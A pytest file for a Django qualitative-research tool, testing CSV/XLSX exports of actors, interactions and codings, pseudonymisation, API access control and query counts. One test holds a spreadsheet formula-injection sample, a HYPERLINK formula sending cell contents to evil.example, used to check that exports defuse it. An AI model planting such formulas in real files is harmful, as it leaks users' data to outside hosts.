"""Tables for R, Stata and SPSS: columns, metrics with their status, quotes, pseudonyms, access, queries."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from rest_framework.test import APIClient

from coding.exchange.tables.rows import ACTOR_COLUMNS, CODING_COLUMNS, INTERACTION_COLUMNS, METRIC_COLUMNS
from coding.exchange.tables.writers import BOM, csv_chunks, write_xlsx
from coding.worker.loader import compute_snapshot
from coding.worker.models import AnalysisSnapshot, RegionAnalysisState, SnapshotStatus
from tests import factories


def read_csv(response) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith(BOM)
    return list(csv.DictReader(io.StringIO(body.removeprefix(BOM))))


def read_xlsx(response) -> list[dict]:
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def table_url(owner, table: str, extension: str, *, api: bool = False) -> str:
    scope = "study" if owner.__class__.__name__ == "Study" else "region"
    name = f"{'api' if api else 'exports'}:{scope}-table"
    return reverse(name, kwargs={"pk": owner.pk, "table": table, "extension": extension})


# --- The writers (no database) -------------------------------------------------------------


def test_csv_has_a_bom_one_zero_booleans_and_iso_dates():
    chunks = csv_chunks(["flag", "day", "note"], [(True, dt.date(2024, 3, 1), None), (False, None, 'say "hi"')])
    text = b"".join(chunks).decode()
    assert text == BOM + 'flag,day,note\r\n1,2024-03-01,\r\n0,,"say ""hi"""\r\n'


def test_csv_defuses_formula_like_text_but_keeps_numbers():
    # The CSV carries a BOM precisely so Excel opens it; a quote such as this one would run there.
    quote = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [(quote, "+SUM(1,2)", -1), ("-1+2", "@cmd", 2.5), ("\tx", "\rx", None)]
    content = b"".join(csv_chunks(["quote", "memo", "n"], rows)).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(content)))
    assert lines[1] == ["'" + quote, "'+SUM(1,2)", "-1"]
    assert lines[2] == ["'-1+2", "'@cmd", "2.5"]
    assert lines[3] == ["'\tx", "'\rx", ""]


def test_it_refuses_column_names_a_statistics_package_would_rename():
    with pytest.raises(ValueError, match="snake_case"):
        list(csv_chunks(["Actor name"], []))
    with pytest.raises(ValueError):
        write_xlsx(["a_very_long_column_name_that_stata_cuts_off"], [], io.BytesIO(), sheet="x")


def test_xlsx_keeps_formula_like_text_as_text_and_drops_control_characters():
    target = io.BytesIO()
    write_xlsx(["quote", "n", "flag"], [("=HYPERLINK(1)", 2, True), ("bell\x07", 1.5, None)], target, sheet="t")
    sheet = openpyxl.load_workbook(io.BytesIO(target.getvalue())).active
    assert sheet["A2"].value == "=HYPERLINK(1)" and sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "bell" and sheet["B2"].value == 2 and sheet["C2"].value == 1


# --- Database tables ---------------------------------------------------------------------


def store_snapshot(region, *, current: bool = True) -> AnalysisSnapshot:
    """The all-waves snapshot as the worker would store it, optionally behind the region's version."""
    state, _ = RegionAnalysisState.objects.get_or_create(region=region)
    RegionAnalysisState.objects.filter(pk=state.pk).update(version=5)
    return AnalysisSnapshot.objects.create(
        region=region, layer="all", status=SnapshotStatus.OK, input_version=5 if current else 4,
        result=compute_snapshot(region.pk, None, "all"), computed_at=dt.datetime(2024, 5, 1, tzinfo=dt.UTC),
    )  # fmt: skip


def test_metric_columns_follow_the_analysis_result(region):
    factories.InteractionFactory(region=region)
    row = compute_snapshot(region.pk, None, "all")["actors"][0]
    assert tuple(key for key in row if key not in {"id", "name", "kind", "location", "hierarchy_level"}) == (
        METRIC_COLUMNS
    )


def test_actors_table_carries_metrics_and_marks_stale_and_missing_ones(client, carol, study, region):
    tie = factories.InteractionFactory(region=region)
    store_snapshot(region, current=False)
    late = factories.OrganisationFactory(region=region, name="Joined after the analysis")
    client.force_login(carol)
    rows = {int(row["actor_id"]): row for row in read_csv(client.get(table_url(study, "actors", "csv")))}
    assert list(rows[tie.source_id]) == list(ACTOR_COLUMNS)
    assert rows[tie.source_id]["metrics_status"] == "stale"
    assert rows[tie.source_id]["degree"] == "1" and rows[tie.source_id]["interviewed"] == "0"
    assert rows[late.pk]["metrics_status"] == "missing" and rows[late.pk]["degree"] == ""

    # Adding the actor bumped the region's version; a recomputation catches up with it.
    AnalysisSnapshot.objects.update(input_version=RegionAnalysisState.objects.get(region=region).version)
    rows = read_xlsx(client.get(table_url(region, "actors", "xlsx")))
    source = next(row for row in rows if row["actor_id"] == tie.source_id)
    assert source["metrics_status"] == "current" and source["degree"] == 1


def test_interactions_table_has_one_row_per_tie_with_modes_and_ratings(client, carol, region):
    wave = factories.WaveFactory(region=region, label="2024")
    tie = factories.InteractionFactory(region=region, wave=wave, rating_time=4, rating_intimacy=1, channel="meeting")
    tie.evidence.add(factories.CodingFactory(interview__region=region))
    client.force_login(carol)
    [row] = read_csv(client.get(table_url(region, "interactions", "csv")))
    assert list(row) == list(INTERACTION_COLUMNS)
    assert row["wave"] == "2024" and row["mode_cooperation"] == "1" and row["mode_rivalry"] == "0"
    assert row["rating_mean"] == "2.5" and row["evidence_count"] == "1" and row["source"] == tie.source.name


def test_codings_table_has_quote_code_path_and_offsets(client, carol, study, region):
    parent = factories.CodeFactory(scheme=study.coding_scheme, name="Coordination")
    child = factories.CodeFactory(scheme=study.coding_scheme, name="Cooperation", parent=parent)
    coding = factories.CodingFactory(interview__region=region, code=child, start=12, length=30)
    client.force_login(carol)
    [row] = read_xlsx(client.get(table_url(study, "codings", "xlsx")))
    assert list(row) == list(CODING_COLUMNS)
    assert row["code_path"] == "Coordination > Cooperation" and row["quote"] == coding.quote
    assert (row["start"], row["end"], row["coder"]) == (12, 42, coding.coder.username)
    assert row["interview_date"] == dt.datetime(2024, 3, 1)  # a real date cell


def test_pseudonymised_tables_replace_person_names_in_names_and_quotes(client, carol, region):
    person = factories.PersonFactory(region=region, name="Anna Lindqvist", pseudonym="Respondent A")
    factories.InteractionFactory(region=region, source=person, memo="Anna Lindqvist confirmed it.")
    interview = factories.InterviewFactory(region=region, transcript="Intro. Anna Lindqvist said we share the lab.")
    factories.CodingFactory(interview=interview, start=7, length=37)
    client.force_login(carol)
    plain_rows = read_csv(client.get(table_url(region, "codings", "csv")))
    assert plain_rows[0]["quote"] == "Anna Lindqvist said we share the lab."

    url = table_url(region, "codings", "csv") + "?pseudonymised=1"
    [row] = read_csv(client.get(url))
    assert row["quote"] == "Respondent A said we share the lab." and "Lindqvist" not in str(row)
    # Offsets follow the pseudonymised transcript, so they still select the quote there.
    assert (int(row["start"]), int(row["end"])) == (7, 7 + len(row["quote"]))
    assert row["coder"].startswith("coder_")
    actors = read_csv(client.get(table_url(region, "actors", "csv") + "?pseudonymised=1"))
    assert "Respondent A" in {row["name"] for row in actors} and "Anna Lindqvist" not in str(actors)
    ties = read_xlsx(client.get(table_url(region, "interactions", "xlsx") + "?pseudonymised=1"))
    assert ties[0]["source"] == "Respondent A" and ties[0]["memo"] == "Respondent A confirmed it."


def test_export_page_links_the_tables(client, carol, study, region):
    client.force_login(carol)
    page = client.get(reverse("exports:study-list", args=[study.pk])).content.decode()
    assert table_url(region, "codings", "xlsx") + "?pseudonymised=1" in page
    assert table_url(study, "actors", "csv") in page


def test_unknown_table_or_format_is_404(client, carol, region):
    client.force_login(carol)
    assert client.get(table_url(region, "memos", "csv")).status_code == 404
    assert client.get(table_url(region, "actors", "sav")).status_code == 404


# --- API ----------------------------------------------------------------------------------


@pytest.mark.parametrize("table", ["actors", "interactions", "codings", "regions", "waves", "interviews", "variables"])
def test_api_serves_the_tables_to_members_only(table, region, study, carol, mallory):
    factories.InteractionFactory(region=region)
    api = APIClient()
    assert api.get(table_url(region, table, "csv", api=True)).status_code in (401, 403)
    api.force_authenticate(mallory)
    assert api.get(table_url(region, table, "csv", api=True)).status_code == 404
    assert api.get(table_url(study, table, "xlsx", api=True)).status_code == 404
    api.force_authenticate(carol)
    response = api.get(table_url(study, table, "xlsx", api=True), HTTP_ACCEPT="*/*")
    assert response.status_code == 200 and response["Content-Type"].startswith("application/vnd.openxml")
    assert api.get(table_url(region, table, "csv", api=True), HTTP_ACCEPT="text/csv").status_code == 200


def test_api_tables_with_a_token(region, carol):
    from rest_framework.authtoken.models import Token

    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=carol).key}")
    response = api.get(table_url(region, "actors", "csv", api=True) + "?pseudonymised=1")
    assert response.status_code == 200 and response["Content-Disposition"].endswith('-pseudonymised.csv"')


# --- Queries do not grow with rows ----------------------------------------------------------


def seed(region, n: int) -> None:
    wave = factories.WaveFactory(region=region)
    for _ in range(n):
        tie = factories.InteractionFactory(region=region, wave=wave, coder=factories.UserFactory())
        tie.evidence.add(factories.CodingFactory(interview__region=region, interview__wave=wave))
    factories.PersonFactory(region=region)


def count_queries(client, url: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
        b"".join(response.streaming_content)
    return len(queries)


@pytest.mark.parametrize("table", ["actors", "interactions", "codings", "regions", "waves", "interviews", "variables"])
@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_queries_do_not_grow_with_rows(table, extension, client, carol, study, other_region, region):
    client.force_login(carol)
    seed(region, 2)
    store_snapshot(region)
    url = table_url(study, table, extension) + "?pseudonymised=1"
    few = count_queries(client, url)
    seed(region, 25)
    assert count_queries(client, url) == few
